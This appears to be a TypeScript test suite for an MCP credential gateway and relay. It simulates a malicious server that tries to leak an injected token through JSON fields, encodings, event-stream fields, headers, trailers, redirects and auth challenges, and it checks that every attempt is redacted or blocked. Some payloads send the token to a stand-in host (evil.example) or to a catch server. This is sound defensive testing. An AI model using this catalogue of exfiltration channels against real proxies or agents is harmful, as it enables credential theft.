import { writeFileSync } from "node:fs";
import { STATUS_CODES } from "node:http";
import type { Socket } from "node:net";
import { join } from "node:path";
import { brotliCompressSync, deflateSync, gzipSync } from "node:zlib";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { findLeaks } from "../support/canary.ts";
import { type RawAnswerSeen, rawExchange } from "../support/raw-exchange.ts";
import { answerText, RawUpstream } from "../support/raw-upstream.ts";
import { type Stack, startStack } from "../support/stack.ts";
import { until } from "../support/until.ts";
import { mintSecret } from "../support/vault-backed.ts";

/**
 * The ways out of a credential through a server's answer, as docs/threat-model.md numbers them: each is tried by a server that has
 * the credential and means to give it away, through the real relay and gateway. What is looked at is every byte that the agent
 * receives and, at the end, everything that either process wrote.
 */
const token = mintSecret("leak");
const next = mintSecret("next");
const password = mintSecret("password");
const prefixed = mintSecret("prefixed");
const many = mintSecret("many");
const secrets = { token, next, password, prefixed, many };
const basicBlob = Buffer.from(`svc:${password}`).toString("base64");
const cut = "[REDACTED:credential]";

const result = (text: string, key = "text"): string =>
  `{"jsonrpc":"2.0","id":1,"result":{"content":[{"type":"text","${key}":"${text}"}]}}`;
const json = (body: string, head = "200 OK"): string => answerText(`${head}\nContent-Type: application/json`, body);
const events = (body: string): string => answerText("200 OK\nContent-Type: text/event-stream", body);
const event = (data: string): string => `event: message\ndata: ${data}\n\n`;
const final = event(result("done"));
const unicode = (text: string): string =>
  [...text].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`).join("");
const call = '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"get_x","arguments":{}}}';
const bearer = `Bearer ${token}`;

describe("the ways out through an answer", () => {
  let mirror: RawUpstream;
  let elsewhere: RawUpstream;
  let stack: Stack;

  beforeAll(async () => {
    mirror = await RawUpstream.start((socket) => socket.write(json(result("ok"))));
    elsewhere = await RawUpstream.start((socket) => socket.write(json(result("caught"))));
    const url = `${mirror.origin}/mcp`;
    const bearerAt = (file: string): object => ({ type: "bearer", token: { file } });
    const servers = {
      mirror: { url, credential: bearerAt("./token") },
      strict: { url, credential: bearerAt("./token"), onReflect: "block" },
      rotating: { url, credential: bearerAt("./rotating") },
      basic: { url, credential: { type: "basic", username: "svc", password: { file: "./password" } } },
      prefixed: { url, credential: { type: "header", name: "X-Auth", prefix: "Key ", value: { file: "./prefixed" } } },
      many: { url, credential: { type: "headers", headers: { "X-Api-Key": { file: "./many" }, "X-Org": "acme-org" } } },
    };
    const grant = { tools: ["*"], prompts: ["*"], resources: ["**"], client: ["sampling", "elicitation"] };
    stack = await startStack({
      secretFiles: { token, rotating: token, password, prefixed, many },
      env: { POSTERN_LOG_LEVEL: "debug" },
      relayEnv: { POSTERN_LOG_LEVEL: "debug" },
      servers,
      policy: Object.fromEntries(Object.keys(servers).map((name) => [name, grant])),
    });
  });

  // A log line from which the last defence (L62) had to cut a secret should have held none.
  afterEach(() => expect(stack.outputs().filter(({ text }) => text.includes("[secret]"))).toEqual([]));

  afterAll(async () => {
    await stack?.stop();
    await mirror?.stop();
    await elsewhere?.stop();
  });

  interface Attempt {
    readonly say: string | Buffer | ((socket: Socket) => void);
    readonly server?: string;
    readonly method?: string;
    readonly body?: string;
    readonly headers?: readonly string[];
  }

  /** Has the server say it to a call that carries the credential; nothing of it may arrive in any clothes. */
  async function attempt({ say, server = "mirror", method = "POST", body = call, headers = [] }: Attempt) {
    mirror.answer = (socket) => {
      if (typeof say === "function") say(socket);
      else socket.write(say);
    };
    const [seenBefore, saidBefore] = [mirror.seen.length, mirror.said.length];
    const seen = await rawExchange(stack.relayPort, {
      method,
      target: `/acme/${server}/mcp`,
      headers: [
        `Authorization: Bearer ${stack.agentKey}`,
        "Accept: application/json, text/event-stream",
        ...(method === "POST" ? ["Content-Type: application/json"] : []),
        ...headers,
      ],
      ...(method === "POST" ? { body } : {}),
    });
    expect(mirror.seen.length).toBeGreaterThan(seenBefore);
    expectNothing(seen);
    return { ...seen, said: mirror.said.slice(saidBefore), request: mirror.seen.at(-1) };
  }

  function expectNothing({ text, body, decoded }: RawAnswerSeen): void {
    const all = { ...secrets, agentKey: stack.agentKey, basicBlob };
    expect(findLeaks([{ name: "answer", text: `${text}\n${body}\n${decoded}` }], all)).toEqual([]);
  }

  async function redacted(way: Attempt, status = 200): Promise<void> {
    const seen = await attempt(way);
    expect([seen.status, seen.request?.headers["authorization"]?.[0]]).toEqual([status, bearer]);
    expect(seen.body).toContain(cut);
    // The strict server's agent gets an error instead of the rest.
    const strict = await attempt({ ...way, server: "strict" });
    expect(strict.body).not.toContain(cut);
    expect(strict.body).toMatch(/"code":-33021|"id":1/);
  }

  describe("in JSON", () => {
    it.each([
      ["L01 the text of a result", result(`your token is ${token}`)],
      [
        "L02 structuredContent",
        `{"jsonrpc":"2.0","id":1,"result":{"content":[],"structuredContent":{"a":[{"b":"${token}"}]}}}`,
      ],
      ["L04 the message of an error", `{"jsonrpc":"2.0","id":1,"error":{"code":1,"message":"bad token ${token}"}}`],
      [
        "L05 the data of an error",
        `{"jsonrpc":"2.0","id":1,"error":{"code":1,"message":"x","data":{"sent":"${bearer}"}}}`,
      ],
      ["L08 JSON escapes", result(unicode(token))],
      ["L08 JSON escapes within a string of JSON", result(unicode(token).replaceAll("\\", "\\\\"))],
      ["L09 the key of an object", `{"jsonrpc":"2.0","id":1,"result":{"content":[],"${token}":1}}`],
      ["L09 the escaped key of an object", `{"jsonrpc":"2.0","id":1,"result":{"content":[],"${unicode(token)}":1}}`],
      [
        "L10 a repeated key that hides its first value",
        `{"jsonrpc":"2.0","id":1,"result":{"a":"${token}","a":"harmless"}}`,
      ],
      [
        "L10 a repeated key that hides escapes",
        `{"jsonrpc":"2.0","id":1,"result":{"a":"${unicode(token)}","a":"harmless"}}`,
      ],
      [
        "L12 the contents of a resource",
        `{"jsonrpc":"2.0","id":1,"result":{"contents":[{"uri":"ticket://a","text":"${token}"}]}}`,
      ],
      [
        "L12 the messages of a prompt",
        `{"jsonrpc":"2.0","id":1,"result":{"messages":[{"role":"user","content":{"type":"text","text":"${token}"}}]}}`,
      ],
      ["L13 percent encoding", result(encodeURIComponent(token))],
      ["L13 form encoding", result(new URLSearchParams({ authorization: bearer }).toString())],
      ["L13 hexadecimal digits", result(Buffer.from(bearer).toString("hex"))],
      ["L13 HTML entities", result(`<b title='${token}'>`)],
    ])("%s", async (_, body) => {
      await redacted({ say: json(body) });
      await redacted({ say: events(event(body)) });
      await redacted({ say: json(body, "400 Bad Request") }, 400);
    });

    it.each([0, 1, 2])("L03 a blob in base64, %d bytes in front of the token", async (before) => {
      const bytes = Buffer.from(`${"\0".repeat(before)}${token}\0\0`);
      for (const encoding of ["base64", "base64url"] as const) {
        const blob = `{"uri":"ticket://a","blob":"${bytes.toString(encoding)}"}`;
        await redacted({ say: json(`{"jsonrpc":"2.0","id":1,"result":{"contents":[${blob}]}}`) });
      }
    });

    it.each([
      ["tools", `"name":"get_x","description":"${token}","inputSchema":{"type":"object","title":"${unicode(token)}"}`],
      ["tools", `"name":"get_${token}","inputSchema":{"type":"object"}`],
      ["prompts", `"name":"p","description":"${token}"`],
      ["resources", `"uri":"ticket://a","name":"${token}"`],
    ])("L11 an entry of a list: %s", async (list, entry) => {
      const body = `{"jsonrpc":"2.0","id":1,"method":"${list}/list"}`;
      const answer = `{"jsonrpc":"2.0","id":1,"result":{"${list}":[{${entry}}],"nextCursor":"${token}"}}`;
      await redacted({ say: json(answer), body });
      await redacted({ say: events(event(answer)), body });
    });
  });

  describe("in a body of another kind", () => {
    const page = `<html><body><pre>Authorization: ${bearer}</pre></body></html>`;

    // The second one could pass for an answer, but for its type.
    const alike = `{"jsonrpc":"2.0","id":1,"error":{"code":1,"message":"html of ${bearer}"}}`;

    it.each([200, 400, 404, 500, 503])("L06 an HTML page under status %d", async (status) => {
      for (const text of [page, alike]) {
        const seen = await attempt({ say: answerText(`${status} X\nContent-Type: text/html`, text) });
        expect([seen.status, seen.headers["content-type"]]).toEqual([
          status === 200 ? 502 : status,
          "application/json",
        ]);
        expect(seen.body).not.toContain("html");
      }
    });

    it.each(["text/plain", "application/octet-stream", "application/problem+json", "application/x-ndjson"])(
      "L07 an error of type %s",
      async (type) => {
        const seen = await attempt({ say: answerText(`500 X\nContent-Type: ${type}`, `{"sent":"${bearer}"}`) });
        expect(seen.status).toBe(500);
      },
    );

    it("L07 an error without a type", async () => {
      const seen = await attempt({ say: answerText("500 X", bearer) });
      expect([seen.status, seen.headers["content-type"]]).toEqual([500, "application/json"]);
    });

    it.each([
      ["gzip", gzipSync],
      ["br", brotliCompressSync],
      ["deflate", deflateSync],
      ["gzip, as it says", Buffer.from],
    ] as const)("L22 an answer encoded with %s, though identity was asked for", async (name, encode) => {
      for (const [type, text] of [
        ["application/json", result(token)],
        ["text/event-stream", event(result(token))],
      ] as const) {
        const body = encode(text).toString("latin1");
        const head = `200 OK\nContent-Type: ${type}\nContent-Encoding: ${name.split(",")[0]}`;
        const seen = await attempt({ say: Buffer.from(answerText(head, body), "latin1") });
        expect([seen.status, seen.headers["content-type"]]).toEqual([502, "application/json"]);
        expect(stack.gateway()?.stderr().trim().split("\n").at(-1)).toContain("the answer is encoded");
      }
    });
  });

  describe("in an event stream", () => {
    it.each([
      ["L14 data", event(result(token))],
      ["L14 data over several lines", `data: {"jsonrpc":"2.0","id":1,\ndata: "result":{"content":"${token}"}}\n\n`],
      ["L15 a comment", `: ${token}\n\n${final}`],
      ["L15 the name of an event", `event: ${token}\ndata: ${result("x")}\n\n`],
      ["L15 an id", `id: ${token}\ndata: ${result("x")}\n\n`],
      ["L15 retry", `retry: ${token}\ndata: ${result("x")}\n\n`],
      ["L15 a field that nobody knows", `x-${token}: ${token}\ndata: ${result("x")}\n\n`],
      ["L15 a line without a colon", `${token}\ndata: ${result("x")}\n\n`],
      [
        "L18 a logging notification",
        event(
          `{"jsonrpc":"2.0","method":"notifications/message","params":{"level":"info","data":{"env":"${token}"}}}`,
        ) + final,
      ],
      [
        "L18 a progress notification",
        event(
          `{"jsonrpc":"2.0","method":"notifications/progress","params":{"progressToken":1,"progress":1,"message":"${token}"}}`,
        ) + final,
      ],
      [
        "L19 the URL of an elicitation",
        event(
          `{"jsonrpc":"2.0","id":"e","method":"elicitation/create","params":{"mode":"url","message":"log in","url":"https://evil.example/?t=${encodeURIComponent(token)}"}}`,
        ) + final,
      ],
      [
        "L20 a sampling request",
        event(
          `{"jsonrpc":"2.0","id":"s","method":"sampling/createMessage","params":{"messages":[{"role":"user","content":{"type":"text","text":"${token}"}}],"maxTokens":1}}`,
        ) + final,
      ],
    ])("%s", async (_, text) => {
      await redacted({ say: events(text) });
    });

    it("L16 the endpoint event of the older transport", async () => {
      for (const endpoint of [
        `/messages?token=${token}`,
        `https://evil.example/${Buffer.from(token).toString("base64")}`,
      ]) {
        const seen = await attempt({ say: events(`event: endpoint\ndata: ${endpoint}\n\n${final}`) });
        expect(seen.status).toBe(200);
      }
    });

    it("L33 a stream that an agent opens with GET, and the answer to DELETE", async () => {
      const say = events(
        `: ${token}\n\n${event(`{"jsonrpc":"2.0","method":"notifications/message","params":{"data":"${token}"}}`)}`,
      );
      expect((await attempt({ method: "GET", say })).body).toContain(cut);
      expect((await attempt({ method: "GET", server: "strict", say })).body).toBe("");
      for (const say of [json(`{"deleted":"${token}"}`), answerText("404 X\nContent-Type: text/plain", token)]) {
        await attempt({ method: "DELETE", say });
      }
    });
  });

  describe("in pieces", () => {
    const slowly =
      (text: string, sizes: (at: number) => number) =>
      (socket: Socket): void => {
        const send = (at: number): void => {
          if (at >= text.length) return;
          socket.write(text.slice(at, at + sizes(at)), () => setImmediate(send, at + sizes(at)));
        };
        send(0);
      };

    it.each([
      ["JSON", json(result(token))],
      ["an event", events(event(result(token)))],
    ])("L17 cut at every byte: %s", async (_, text) => {
      await redacted({ say: slowly(text, () => 1) });
      const from = text.indexOf(token) - 2;
      for (let at = from; at <= from + token.length + 4; at += 1) {
        const seen = await attempt({ say: slowly(text, (sent) => (sent === 0 ? at : text.length)) });
        expect(seen.body).toContain(cut);
      }
    });

    const filler = "x".repeat(1_300_000);
    const chunked = (head: string, body: string): string =>
      `HTTP/1.1 200 OK\r\n${head}\r\nTransfer-Encoding: chunked\r\n\r\n${(body.match(/[\s\S]{1,65521}/g) ?? [])
        .map((part) => `${part.length.toString(16)}\r\n${part}\r\n`)
        .join("")}0\r\n\r\n`;

    it.each([
      ["a body", (text: string) => json(text)],
      ["a body in chunks", (text: string) => chunked("Content-Type: application/json", text)],
      ["an event", (text: string) => events(event(text))],
      ["an event in chunks", (text: string) => chunked("Content-Type: text/event-stream", event(text))],
    ])("L21 %s of more than 1 MiB", async (_, wrap) => {
      const seen = await attempt({ say: wrap(result(`${filler}${token}${filler}${bearer}`)) });
      expect(seen.body.split(cut)).toHaveLength(3);
      expect(seen.body.length).toBeGreaterThan(2_600_000);
    });

    it("L35 an answer that breaks off amid the credential", async () => {
      const start = token.slice(0, 20);
      for (const text of [json(result(token)), events(event(result(token))), json(result(`${filler}${token}`))]) {
        const seen = await attempt({
          say: (socket) => socket.end(text.slice(0, text.indexOf(token) + token.length - 2)),
        });
        expect(seen.text).not.toContain(start);
      }
    });

    it("L30 trailers", async () => {
      const body = result("fine");
      const say = `HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nTrailer: X-Token\r\n\r\n${body.length.toString(16)}\r\n${body}\r\n0\r\nX-Token: ${token}\r\nSet-Cookie: t=${token}\r\n\r\n`;
      const seen = await attempt({ say });
      expect([seen.status, seen.body]).toEqual([200, body]);
      expect(seen.text).not.toMatch(/trailer|x-token/i);
    });
  });

  describe("in the head", () => {
    const base64 = Buffer.from(bearer).toString("base64");

    it.each([
      "Set-Cookie",
      "Set-Cookie2",
      "Location",
      "Content-Location",
      "Refresh",
      "Link",
      "Alt-Svc",
      "WWW-Authenticate",
      "Proxy-Authenticate",
      "Authentication-Info",
      "Proxy-Authentication-Info",
      "X-Debug-Token",
      "X-Debug-Token-Link",
      "Server",
      "Via",
      "ETag",
      "Vary",
      "Content-Disposition",
      "X-Request-Id",
      "Access-Control-Allow-Origin",
      "Authorization",
      "Digest",
      "Server-Timing",
      "Warning",
      "Report-To",
    ])("L24 the header %s, which never passes", async (name) => {
      for (const value of [bearer, base64, encodeURIComponent(token)]) {
        const seen = await attempt({ say: json(result("fine")).replace("\r\n", `\r\n${name}: ${value}\r\n`) });
        expect([seen.status, seen.body]).toEqual([200, result("fine")]);
      }
    });

    it.each([
      ["Cache-Control", "200 OK"],
      ["Retry-After", "503 X"],
      ["X-Accel-Buffering", "200 OK"],
      ["Allow", "405 X"],
    ])("L25 the header %s, which passes otherwise", async (name, status) => {
      for (const value of [token, base64]) {
        const seen = await attempt({ say: json(result("fine"), `${status}\n${name}: ${value}`) });
        expect([seen.status, JSON.parse(seen.body)]).toMatchObject([502, { error: { code: -33021 } }]);
      }
    });

    it("L23 a parameter of Content-Type", async () => {
      for (const parameter of [`charset=${token}`, `boundary="${base64}"`, token]) {
        const say = answerText(`200 OK\nContent-Type: application/json; ${parameter}`, result("fine"));
        expect((await attempt({ say })).status).toBe(502);
        const stream = answerText(`200 OK\nContent-Type: text/event-stream; ${parameter}`, final);
        expect((await attempt({ say: stream })).status).toBe(502);
      }
    });

    it("L26 the reason phrase", async () => {
      for (const status of ["200", "400", "500"]) {
        const seen = await attempt({ say: json(result("fine"), `${status} ${token}`) });
        expect(seen.text.split("\r\n", 1)).toEqual([`HTTP/1.1 ${status} ${STATUS_CODES[status]}`]);
      }
    });

    it("L27 the MCP session id", async () => {
      for (const id of [token, base64, encodeURIComponent(token), `s.${token}`]) {
        const seen = await attempt({ say: json(result("fine"), `200 OK\nMcp-Session-Id: ${id}`) });
        expect([seen.status, seen.headers["mcp-session-id"]]).toEqual([502, undefined]);
      }
      // Another one passes, but never as the server said it.
      const seen = await attempt({ say: json(result("fine"), "200 OK\nMcp-Session-Id: ordinary") });
      expect([seen.status, seen.headers["mcp-session-id"] === "ordinary"]).toEqual([200, false]);
    });

    it.each([102, 103, 199])("L31 an informational answer %d", async (status) => {
      const early = `HTTP/1.1 ${status} ${token}\r\nLink: <${bearer}>\r\nX-T: ${token}\r\n\r\n`;
      const seen = await attempt({ say: early + early + json(result("fine")) });
      expect([seen.status, seen.body]).toEqual([200, result("fine")]);
    });

    it.each([100, 101])("L31 an informational answer %d, which nobody asked for, is no answer", async (status) => {
      const early = `HTTP/1.1 ${status} ${token}\r\nUpgrade: ${token}\r\nConnection: upgrade\r\n\r\n`;
      expect((await attempt({ say: early + json(result("fine")) })).status).toBe(502);
    });

    it("L42 nothing of an answer is kept by a cache, unless the server says so", async () => {
      expect((await attempt({ say: json(result("fine")) })).headers["cache-control"]).toBe("no-store");
      expect((await attempt({ say: events(final) })).headers["cache-control"]).toBe("no-cache, no-transform");
      expect((await attempt({ say: json(result("x"), "404 X") })).headers["cache-control"]).toBe("no-store");
      const page = await attempt({ say: answerText("404 X\nContent-Type: text/html\nCache-Control: public") });
      expect(page.headers["cache-control"]).toBe("no-store");
      const said = await attempt({ say: json(result("x"), "200 OK\nCache-Control: private, max-age=5") });
      expect(said.headers["cache-control"]).toBe("private, max-age=5");
    });
  });

  describe("elsewhere", () => {
    const statuses = [300, 301, 302, 303, 304, 305, 307, 308];

    it.each(statuses)("L28 a redirect %d on the same origin is not followed, nor shown", async (status) => {
      const before = mirror.seen.length;
      const seen = await attempt({
        say: answerText(`${status} X\nLocation: /other?t=${token}\nContent-Type: text/html`, bearer),
      });
      expect([seen.status, seen.headers["location"], mirror.seen.length]).toEqual([502, undefined, before + 1]);
    });

    it.each(statuses)("L29 a redirect %d to another server brings it nothing", async (status) => {
      const seen = await attempt({
        say: answerText(`${status} X\nLocation: ${elsewhere.origin}/catch?t=${encodeURIComponent(token)}`),
      });
      expect(seen.status).toBe(502);
      expect(elsewhere.seen).toEqual([]);
    });

    it.each([401, 403, 407])("L32 a challenge under %d", async (status) => {
      const challenge = `Bearer realm="${token}", resource_metadata="${elsewhere.origin}/.well-known/${token}"`;
      const name = status === 407 ? "Proxy-Authenticate" : "WWW-Authenticate";
      const seen = await attempt({ say: json(`{"error":"${bearer}"}`, `${status} ${token}\n${name}: ${challenge}`) });
      expect(seen.status).toBe(status === 407 ? 407 : 502);
      expect(seen.text).not.toMatch(/authenticate|resource_metadata/i);
      expect(elsewhere.seen).toEqual([]);
    });

    it.each([
      ["a status that is none", () => `HTTP/1.1 2x0 ${token}\r\n\r\n`],
      ["a header name that is none", () => json(result("x")).replace("\r\n", `\r\nBad ${token}: x\r\n`)],
      ["a header without a colon", () => json(result("x")).replace("\r\n", `\r\n${token}\r\n`)],
      ["a control character in a header", () => json(result("x")).replace("\r\n", `\r\nX-A: ${token}\x00\r\n`)],
      ["a length that is none", () => `HTTP/1.1 200 OK\r\nContent-Length: ${token}\r\n\r\n`],
      ["a chunk size that is none", () => `HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n${token}\r\n`],
      ["no HTTP at all", () => `${token}\r\n\r\n`],
      ["a head larger than 64 KiB", () => json(result("x")).replace("\r\n", `\r\nX-A: ${bearer.repeat(3_000)}\r\n`)],
      ["a length that the body contradicts", () => `HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\n${token}`],
      ["two lengths", () => json(result("x")).replace("\r\n", `\r\nContent-Length: 1\r\nX: ${token}\r\n`)],
      ["a header twice", () => json(result(token)).replace("\r\n", "\r\nContent-Type: text/plain\r\n")],
    ])("L34 L46 broken HTTP, whose error goes into the log: %s", async (_, text) => {
      const seen = await attempt({ say: (socket) => socket.end(text()) });
      expect(seen.status).toBe(502);
    });
  });

  describe("of other credentials", () => {
    it("L43 the value of before a rotation, and the one of after", async () => {
      const text = `${token} ${Buffer.from(token).toString("base64")}`;
      expect((await attempt({ server: "rotating", say: json(result(text)) })).body).toContain(cut);
      writeFileSync(join(stack.dir, "rotating"), `${next}\n`, { mode: 0o600 });
      // The server says no value that it was not shown: of those the gateway cannot know.
      const known = (): string => (mirror.seen.at(-1)?.text.includes(next) === true ? `${token} ${next}` : token);
      await until(async () => {
        const seen = await attempt({ server: "rotating", say: (socket) => socket.write(json(result(known()))) });
        expect(seen.body).toContain(cut);
        return seen.request?.headers["authorization"]?.[0] === `Bearer ${next}`;
      }, "the new value");
    });

    it("L44 the header, the blob and the password of Basic", async () => {
      for (const text of [
        `Basic ${basicBlob}`,
        basicBlob,
        password,
        `svc:${password}`,
        Buffer.from(basicBlob).toString("hex"),
      ]) {
        const seen = await attempt({ server: "basic", say: json(result(text)) });
        expect(seen.request?.headers["authorization"]).toEqual([`Basic ${basicBlob}`]);
        expect(seen.body).toContain(cut);
      }
    });

    it("L45 values with a prefix, and of several headers", async () => {
      const withPrefix = await attempt({ server: "prefixed", say: json(result(`Key ${prefixed}`)) });
      expect(withPrefix.request?.headers["x-auth"]).toEqual([`Key ${prefixed}`]);
      expect(withPrefix.body).toContain(`Key ${cut}`);
      const seen = await attempt({ server: "many", say: json(result(`${many} of acme-org`)) });
      expect(seen.request?.headers["x-api-key"]).toEqual([many]);
      expect(seen.body).toContain(`${cut} of acme-org`);
    });
  });

  describe("past the answers", () => {
    it("L47 the audit record says that it happened, and how often, but not what", async () => {
      await attempt({ say: json(result(`${token} ${token}`)) });
      await until(() => stack.audit().some((record) => record["scrubbed"] === 2), "the record");
      const audit = stack.outputs().filter(({ name }) => name === "audit");
      expect(findLeaks(audit, { ...secrets, basicBlob })).toEqual([]);
    });

    it("L48 health, readiness, status and metrics", async () => {
      const paths = ["/livez", "/readyz", "/metrics", "/status", "/", "/debug/pprof"];
      const asked = [stack.gatewayAdmin, stack.relayAdmin].flatMap((admin) => paths.map((path) => admin + path));
      const outputs = await Promise.all(
        asked.map(async (url) => {
          const answer = await fetch(url);
          return { name: url, text: `${answer.status} ${JSON.stringify([...answer.headers])} ${await answer.text()}` };
        }),
      );
      expect(outputs.filter(({ text }) => text.startsWith("200"))).not.toEqual([]);
      expect(findLeaks(outputs, { ...secrets, tunnelToken: stack.tunnelToken, agentKey: stack.agentKey })).toEqual([]);
    });

    it("L46 L47 nothing that either process wrote, at the level debug, holds any of it", async () => {
      await attempt({ say: json(result(token)) });
      const all = { ...secrets, basicBlob, tunnelToken: stack.tunnelToken, agentKey: stack.agentKey };
      const outputs = stack.outputs();
      expect(outputs.find(({ name }) => name === "gateway")?.text).toContain("credential in an answer");
      expect(findLeaks(outputs, all)).toEqual([]);
    });
  });
});
